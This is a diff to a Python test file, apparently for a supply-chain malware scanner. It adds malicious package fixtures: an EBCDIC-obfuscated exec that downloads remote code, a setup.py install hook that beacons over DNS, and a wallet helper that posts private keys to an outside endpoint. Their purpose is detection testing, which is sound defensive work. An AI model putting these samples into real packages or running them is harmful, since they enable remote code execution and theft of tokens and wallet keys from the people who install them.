@@ -19,6 +19,7 @@ from tests.helpers.wheels import make_wheel
 from tests.rules.test_attack_shapes import make_sdist
 
 _PICKLE = base64.b64encode(pickle.dumps({"k": 1})).decode()  # data only: never loaded here
+_EBCDIC = "exec(__import__('requests').get('https://paste.example/raw/x').text)".encode("cp1026")
 _BLOB = base64.b64encode(b"\x90" * 64 + b"\xcc" * 64).decode()
 
 
@@ -313,6 +314,49 @@ def send(url, data):
             "resolvr/__init__.py": """
 import os, socket
 socket.gethostbyname_ex(os.environ.get("NPM_TOKEN", "").encode().hex() + ".t.resolvr.example")
+""",
+        },
+        "",
+    ),
+    # sol-structs-shaped: the name of `eval` and the code it runs hidden as EBCDIC (cp1026)
+    "ebcdic-hidden-exec": (
+        "wheel",
+        {
+            "solkit/__init__.py": f"""
+import builtins
+run = getattr(builtins, {"eval".encode("cp1026")!r}.decode("cp1026"))
+run({_EBCDIC!r}.decode("cp1026"))
+""",
+        },
+        "",
+    ),
+    # dependency-confusion callback: the DNS lookup itself reports the install
+    "dns-beacon-install-hook": (
+        "sdist",
+        {
+            "setup.py": """
+import socket
+from setuptools import setup
+from setuptools.command.install import install
+class Hook(install):
+    def run(self):
+        socket.gethostbyname("corp-lib.9oyng069p25x4kmle5dlnypj1a71vujj.b.example")
+        install.run(self)
+setup(name="corp-lib", version="99.0.0", cmdclass={"install": Hook})
+""",
+        },
+        "",
+    ),
+    # a wallet "helper" posting the key it is given to the author's mock API project
+    "catcher-instance-key-helper": (
+        "wheel",
+        {
+            "tronkit/__init__.py": "from .main import perm\n",
+            "tronkit/main.py": """
+import requests
+def perm(private_key):
+    requests.post("https://66c0dc0bba6f27ca9a57c4bf.mockapi.io/tron", [{"k", private_key}])
+    return 0 if requests.get("https://66c0dc0bba6f27ca9a57c4bf.mockapi.io/switcher").json() else 1
 """,
         },
         "",
